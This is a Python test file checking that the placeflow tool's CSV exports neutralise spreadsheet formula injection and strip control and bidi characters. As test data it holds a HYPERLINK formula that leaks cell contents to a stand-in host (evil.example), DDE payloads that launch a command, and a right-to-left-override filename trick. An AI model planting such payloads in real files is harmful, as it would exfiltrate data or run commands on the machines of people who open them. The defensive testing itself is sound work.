"""Issue 34 item 3: CSV written by placeflow (`placeflow rows --out x.csv`, `placeflow query
--csv`) neutralises spreadsheet formulas: a text cell starting with = + - @ tab or CR gets a
leading single quote (OWASP's rule), whether it came from the input (a place's name) or from
the service (a website value); numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import duckdb
import pytest

import placeflow
from placeflow.cli.main import main
from placeflow.options import RunOptions

from .sandbox_target import served

KEY = "sk_csv_safe_key_3333"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]
DANGER = ("=", "+", "-", "@", "\t", "\r")


def write_input(path: Path) -> Path:
    with path.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["id", "name", "address", "city", "country"])
        for i, name in enumerate(HOSTILE):
            writer.writerow([f"u{i}", name, f"{i + 1} Elm Street", "Springfield", "USA"])
        writer.writerow(["u9", "Plain Shop", "9 Elm Street", "Springfield", "USA"])
    return path


def dangerous(cells: list[list[str]]) -> list[str]:
    """Cells a spreadsheet could take for a formula."""
    return [cell for row in cells for cell in row if cell.startswith(DANGER)]


@pytest.fixture
def warehouse(tmp_path: Path) -> tuple[Path, str]:
    """A synchronous enrich run of the hostile names; then a server-sent website of each kind
    (as a service could send it) in their outcomes."""
    db = tmp_path / "wh.duckdb"
    with served(KEY) as (_, target):
        summary = placeflow.run(
            [str(write_input(tmp_path / "in.csv"))],
            options=RunOptions(route="sync", mode="enrich"), db=db, target=target,
        )  # fmt: skip
    with duckdb.connect(str(db)) as con:
        keys = [
            k for (k,) in con.execute("select place_key from enrichments order by 1").fetchall()
        ]
        for key, site in zip(keys, HOSTILE, strict=False):
            con.execute("update enrichments set website_url = ? where place_key = ?", [site, key])
    return db, summary.run_id


def test_rows_csv_quotes_every_formula(warehouse: tuple[Path, str], tmp_path: Path) -> None:
    """`placeflow rows --out x.csv`: the input's names (its own column and the normalised one)
    and the server's websites are written with a leading quote; the plain name is untouched."""
    db, run_id = warehouse
    out = tmp_path / "rows.csv"
    assert main(["rows", run_id, "--db", str(db), "--out", str(out)]) == 0
    with out.open(newline="", encoding="utf-8") as f:
        cells = list(csv.reader(f))
    assert dangerous(cells) == []
    header, body = cells[0], cells[1:]
    names = [row[header.index("name")] for row in body]
    assert names[: len(HOSTILE)] == [f"'{n}" for n in HOSTILE] and names[-1] == "Plain Shop"
    written = {row[header.index("website_url")] for row in body}
    assert {f"'{s}" for s in HOSTILE} <= written


def test_query_csv_quotes_text_and_keeps_numbers(
    warehouse: tuple[Path, str], capsys: pytest.CaptureFixture[str]
) -> None:
    """`placeflow query --csv`: formulas in text cells (from the warehouse or the query) are
    quoted; -5 in a numeric column stays -5, while the text '-5' is quoted."""
    db, _ = warehouse
    capsys.readouterr()
    sql = (
        "select website_url, -5 as n, -1.5 as x, '-5' as t, '=1+1' as \"=col\""
        " from enrichments where website_url is not null order by 1"
    )
    assert main(["query", sql, "--db", str(db), "--csv"]) == 0
    cells = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert dangerous([[row[0], *row[3:]] for row in cells]) == []  # the text columns
    assert cells[0] == ["website_url", "n", "x", "t", "'=col"]
    assert {f"'{s}" for s in HOSTILE} <= {row[0] for row in cells[1:]}
    assert {tuple(row[1:]) for row in cells[1:]} == {("-5", "-1.5", "'-5", "'=1+1")}


CONTROL = "Caf\x00e\x1b[31m\u202egnp.exe\u2066x"
"""Server text holding a NUL, an ESC sequence, a right-to-left override and an isolate."""
UNSAFE = ("\x00", "\x1b", "\u202e", "\u2066")


def test_control_and_bidi_characters_never_reach_a_csv(
    warehouse: tuple[Path, str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A website the service sent with NUL, ESC and bidi controls: `rows --out` and `query
    --csv` write each as U+FFFD, the rest of the text kept."""
    db, run_id = warehouse
    with duckdb.connect(str(db)) as con:
        con.execute("update enrichments set website_url = ? where website_url like '=%'", [CONTROL])
    out = tmp_path / "rows.csv"
    assert main(["rows", run_id, "--db", str(db), "--out", str(out)]) == 0
    capsys.readouterr()
    assert main(["query", "select website_url from enrichments", "--db", str(db), "--csv"]) == 0
    printed = capsys.readouterr().out
    for text in (out.read_text(encoding="utf-8"), printed):
        assert not any(c in text for c in UNSAFE)
        assert "Caf\ufffde\ufffd[31m\ufffdgnp.exe\ufffdx" in text


def test_a_run_s_published_changes_csv_is_safe() -> None:
    """runs/RUN/changes.csv (the files publisher): a name starting with =, a phone starting
    with + and server text with control characters are written inert; numbers stay."""
    from placeflow.reporting.published import CHANGE_COLUMNS, REJECT_COLUMNS, _csv

    changes = [
        {"detected_at": "2026-11-28 08:00:00+00:00", "place_key": "pk_1",
         "place_name": '=HYPERLINK("http://evil.example","x")', "field": "phone",
         "old_value": "+1 555 0100", "new_value": CONTROL},
    ]  # fmt: skip
    cells = list(csv.reader(io.StringIO(_csv(changes, CHANGE_COLUMNS))))
    assert dangerous(cells) == []
    assert cells[1][2].startswith("'=HYPERLINK") and cells[1][4] == "'+1 555 0100"
    assert not any(c in cells[1][5] for c in UNSAFE)
    rejects = list(csv.reader(io.StringIO(_csv([{"field": "-x", "reason": "@y", "rows": 3}],
                                                REJECT_COLUMNS))))  # fmt: skip
    assert rejects[1] == ["'-x", "'@y", "3"]
